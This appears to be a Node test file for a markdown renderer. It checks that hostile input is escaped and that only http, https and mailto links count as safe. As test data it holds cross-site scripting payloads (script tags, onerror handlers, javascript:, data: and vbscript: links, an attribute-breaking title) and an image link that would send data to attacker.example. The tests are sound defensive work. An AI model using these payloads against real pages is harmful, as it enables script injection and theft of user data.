import assert from "node:assert/strict";
import { test } from "node:test";
import { isSafeLink, renderMarkdown } from "../../src/render/markdown.js";

// Hostile answers: none of them may produce a live element, handler or script address.
const hostile: [string, string, RegExp][] = [
  ["raw img with a handler", '<img src=x onerror="alert(1)">', /&lt;img src=x onerror=&quot;alert\(1\)&quot;&gt;/],
  ["script element", "<script>alert(1)</script>", /&lt;script&gt;alert\(1\)&lt;\/script&gt;/],
  ["iframe", '<iframe src="https://evil.example"></iframe>', /&lt;iframe/],
  ["javascript link", "[x](javascript:alert(1))", /\[x\]\(javascript:alert\(1\)\)/],
  ["JavaScript link in capitals with blanks", "[x]( JaVaScRiPt:alert(1))", /\[x\]/],
  ["data link", "[x](data:text/html;base64,PHNjcmlwdD4=)", /\[x\]/],
  ["vbscript link", "[x](vbscript:msgbox)", /\[x\]/],
  ["autolink to javascript", "<javascript:alert(1)>", /&lt;javascript:alert\(1\)&gt;/],
  ["html inside a link text", "[<b>bold</b>](https://example.com)", /&lt;b&gt;bold&lt;\/b&gt;/],
  ["attribute breaking title", '[x](https://example.com "a\\" onmouseover=\\"alert(1)")', /title="a&quot; onmouseover=&quot;alert\(1\)"/],
];

for (const [name, source, shown] of hostile) {
  test(`hostile answer: ${name}`, () => {
    const html = renderMarkdown(source);
    assert.match(html, shown);
    assert.doesNotMatch(html, /<(script|img|iframe)\b/i);
    // No attribute named on… in any tag (attribute values, whose quotes are escaped, aside).
    assert.doesNotMatch(html.replace(/="[^"]*"/g, '=""'), /<[a-z][^>]*\son\w+=/i);
    assert.doesNotMatch(html, /href="(?!https?:|mailto:)/i);
  });
}

test("links open in a new tab without opener or referrer", () => {
  assert.equal(
    renderMarkdown("[docs](https://example.com/a?b=1&c=2)").trim(),
    '<p><a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">docs</a></p>',
  );
  assert.match(renderMarkdown("[mail](mailto:a@example.com)"), /href="mailto:a@example.com" target="_blank"/);
});

test("images become links with their alt text and are never fetched", () => {
  const html = renderMarkdown("![page data](https://attacker.example/?q=secret)");
  assert.doesNotMatch(html, /<img/);
  assert.match(html, /<a class="image-link" href="https:\/\/attacker.example\/\?q=secret" target="_blank" rel="noopener noreferrer">Image: page data<\/a>/);
  assert.match(renderMarkdown('![<b>x</b>](javascript:alert(1))'), /^<p>!\[&lt;b&gt;x&lt;\/b&gt;\]/);
});

test("headings, lists and code render", () => {
  const html = renderMarkdown("# Title\n\n- a\n- b\n\n```ts\nlet x = '<b>';\n```\n");
  assert.match(html, /<h1>Title<\/h1>/);
  assert.match(html, /<li>a<\/li>\n<li>b<\/li>/);
  assert.match(html, /<pre><code class="language-ts">let x = '&lt;b&gt;';\n<\/code><\/pre>/);
});

test("only http, https and mailto are safe", () => {
  const cases: [string, boolean][] = [
    ["https://a", true], ["HTTP://a", true], ["mailto:x@y", true], ["  https://a", true],
    ["javascript:x", false], ["data:text/html,x", false], ["file:///etc/passwd", false], ["chrome://settings", false], ["//evil", false], ["", false],
  ];
  for (const [url, safe] of cases) assert.equal(isSafeLink(url), safe, url);
});
